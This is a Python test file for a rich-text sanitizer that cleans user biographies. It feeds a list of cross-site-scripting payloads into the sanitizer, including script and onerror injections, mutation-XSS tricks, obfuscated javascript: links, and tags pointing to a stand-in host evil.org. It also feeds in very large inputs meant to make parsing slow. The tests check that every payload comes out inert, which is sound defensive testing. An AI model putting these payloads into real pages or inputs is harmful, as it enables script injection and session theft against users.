"""Biographies meant to do harm: nothing of them acts, nothing of them breaks the page, and none is slow."""

from __future__ import annotations

import contextlib
import time
import unicodedata
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from tests.examples import examples
from tests.unit.richtext import biographies

from byline.richtext import html_reader, lines, sanitize

if TYPE_CHECKING:
    from collections.abc import Callable

steady = settings(max_examples=examples(150))

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "<title><img src=x onerror=alert(1)></title>",
    '<textarea><img title="</textarea><img src onerror=alert(1)>">',
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'https://evil.org';</style>",
    '<xmp><img title="</xmp><img src onerror=alert(1)>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<template><script>alert(1)</script></template>",
    "<select><template><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.org">x</a>',
    '<a href="/logout">x</a>',
    '<a href="https://good.org@evil.org">x</a>',
    '<a href="https:\\\\evil.org">x</a>',
    '<a href="https://e.org/&quot; onmouseover=&quot;alert(1)">x</a>',
    "<a href='https://e.org/\"><script>alert(1)</script>'>x</a>",
    '<a href="https://e.org" target=_top onclick=alert(1) style="position:fixed" id=x name=y class=z>x</a>',
    '<a xlink:href="javascript:x" href="https://e.org" href="javascript:y">x</a>',
    '<p style="background:url(javascript:x);position:fixed" class=flash id=main onclick=x>a</p>',
    "<p/onclick=alert(1)/style=x>a",
    '<b/style="font-style:italic;expression(alert(1))">x</b>',
    '<em ="><script>alert(1)</script>">x</em>',
    "<em x=`><script>alert(1)</script>`>x</em>",
    "<base href=//evil.org/><meta http-equiv=refresh content=0;url=//evil.org><link rel=stylesheet href=//evil.org>",
    "<form action=//evil.org><input name=x><button formaction=javascript:x>go</button></form>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=javascript:x><td background=x>y",
    "</p></div></main></body></html><h1>Not the page",
    "<p><em><strong><a href=https://e.org>never closed",
    "<plaintext>the rest",
    "<x onclick=alert(1)>x</x><x:script>alert(1)</x:script>",
    "\x00<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\ud83c<script>\udf1e",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}#{7}",
    "\u202e<em>gpj.exe</em>",
    "<",
    "</",
    "<a",
    "<a href",
    "<a href=",
    "<a href='",
    "<!",
    "<!--",
    "&#",
    "&#x",
    "&",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_inert_in_html_and_in_markdown(attack: str) -> None:
    for bio in (
        sanitize.clean(attack),
        sanitize.clean(f"<p>a {attack} b</p>"),
        sanitize.from_markdown(f"a {attack}\n\n- {attack}"),
    ):
        assert biographies.is_safe(bio)
        assert "\u202e" not in bio
        assert sanitize.clean(bio) == bio
        assert sanitize.from_markdown(sanitize.to_markdown(bio)) == bio


@pytest.mark.parametrize(
    ("attack", "bio"),
    [
        ("a<script>alert(1)</script>b", "<p>ab</p>"),
        ("a<style>p{}</style><title>t</title><svg><p>x</p></svg>b", "<p>ab</p>"),
        ("a<script>b", "<p>a</p>"),
        ("a<!-- b --><!-- c", "<p>a</p>"),
        ('a<a href="jav&#x09;ascript:x">b</a>', "<p>ab</p>"),
        ("<p onclick=x>a</p>", "<p>a</p>"),
        ("&lt;script&gt;", "<p>&lt;script&gt;</p>"),
        ("a</p></div></body>b", "<p>a</p><p>b</p>"),
    ],
)
def test_what_stays_of_an_attack_is_its_text(attack: str, bio: str) -> None:
    assert sanitize.clean(attack) == bio


def test_in_a_textarea_a_foreign_tag_stays_the_text_that_was_typed() -> None:
    typed = "<script>alert(1)</script> and <img src=x onerror=y>"

    bio = sanitize.from_markdown(typed)

    assert sanitize.plain_text(bio) == typed
    assert "<script" not in bio


def test_a_link_typed_to_nowhere_stays_the_text_that_was_typed() -> None:
    typed = "[here](javascript:alert(1)) [there](/logout)"

    assert sanitize.plain_text(sanitize.from_markdown(typed)) == typed


@given(biographies.soups)
@steady
def test_a_browser_finds_nothing_else_in_whatever_was_cleaned(soup: str) -> None:
    bio = sanitize.clean(soup)

    assert biographies.is_safe(bio)
    assert biographies.text_of(bio).replace("\n", "") == "".join(
        run.text for line in html_reader.read(bio) for run in line.runs
    ).replace("\n", "")


@given(biographies.soups)
@steady
def test_nh3_finds_nothing_left_to_take_out(soup: str) -> None:
    assert lines.to_html(html_reader.read(soup)) == sanitize.clean(soup)


@given(biographies.typed)
@steady
def test_a_browser_finds_nothing_else_in_whatever_was_typed(typed: str) -> None:
    assert biographies.is_safe(sanitize.from_markdown(typed))


SLOW = {
    "nested blocks": "<div>" * 40_000,
    "nested and closed": "<div>" * 18_000 + "</div>" * 18_000,
    "closing what is not open": "<div>" * 100 + "</p>" * 20_000 + "</x>" * 20_000,
    "formatting rebuilt in each paragraph": "<p>"
    + "".join(f"<b a{n}>" for n in range(10_000))
    + "</p>"
    + "<p>x</p>" * 8_000,
    "attributes": "<b " + " ".join(f"a{n}" for n in range(28_000)) + ">",
    "quotes that never close": "<a x=\"<a x='" * 16_000,
    "comments": "<!--" * 50_000,
    "declarations": "<!" * 100_000,
    "angles": "<" * 200_000,
    "scripts": "<script>" * 25_000,
    "titles": "<title></title>" * 13_000,
    "lists": "<ul><li>" * 25_000,
    "items": "<li>a" * 40_000,
    "breaks": "<br>a" * 40_000,
    "entities": "&amp;" * 40_000,
    "ampersands": "&#" * 100_000,
    "spaces": " \n" * 100_000,
    "marks": "<i>a</i><b>b</b>" * 12_000,
    "accents": "a" + "\u0301" * 199_999,
    "accents to be sorted": "a" + "\u0301" * 100_000 + "\u0327" * 99_999,
    "accents in tags": "a" + ("\u0301" * 30 + "<x>" + "\u0327" * 30 + "<x>") * 3_000,
    "styles": "<i style='" + ";font-style" * 18_000 + "'>a",
}
SLOW_TYPED = {
    "stars": "*a " * 20_000,
    "mixed": "*_" * 30_000,
    "brackets": "[" * 60_000,
    "images": "![" * 30_000,
    "stars in brackets": "[*a" * 20_000,
    "links that never end": "[a](" * 15_000,
    "parentheses": "[a](((" * 10_000,
    "backslashes": "\\" * 60_000,
    "angles": "<a " * 20_000,
    "attributes": "<a a='" * 10_000,
    "items": "- a\n" * 15_000,
    "stairs": "".join(f"{' ' * n}- a\n" for n in range(330)),
    "rows": "\n" * 60_000,
    "links": "[a](http://x.org/)" * 3_300,
    "tags": "<em>" * 15_000,
    "mails": "<a@" * 20_000,
    "accents to be sorted": "a" + "\u0301" * 30_000 + "\u0327" * 29_999,
}


@pytest.mark.parametrize(
    ("way", "text"),
    [
        *(pytest.param(sanitize.clean, text, id=name) for name, text in SLOW.items()),
        *(pytest.param(sanitize.from_markdown, text, id=f"typed {name}") for name, text in SLOW_TYPED.items()),
    ],
)
def test_no_text_takes_long(way: Callable[[str], str], text: str) -> None:
    """Half a second of work on a slow machine; a way that is not linear needs minutes for these, or gigabytes."""
    began = time.process_time()

    with contextlib.suppress(sanitize.TooMuch):
        assert biographies.is_safe(way(text))

    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "signs", ["\u0301" * 40, "\u0344" * 40, "\u0301\u0327" * 20, "\u0301" * 20 + "<em>" + "\u0327" * 35 + "</em>"]
)
def test_a_letter_keeps_thirty_of_the_signs_on_it(signs: str) -> None:
    """More stand in no language (UAX #15, "Stream-Safe Text Format"); sorting a long row of them takes minutes."""
    bio = sanitize.clean(f"<p>Zo\u0308e{signs}!</p>")

    for text in bio.replace("</em>", "<em>").split("<em>"):
        assert sum(unicodedata.combining(sign) > 0 for sign in text) <= 30
    assert bio.startswith("<p>Z\xf6")
    assert sanitize.clean(bio) == sanitize.from_markdown(sanitize.to_markdown(bio)) == bio
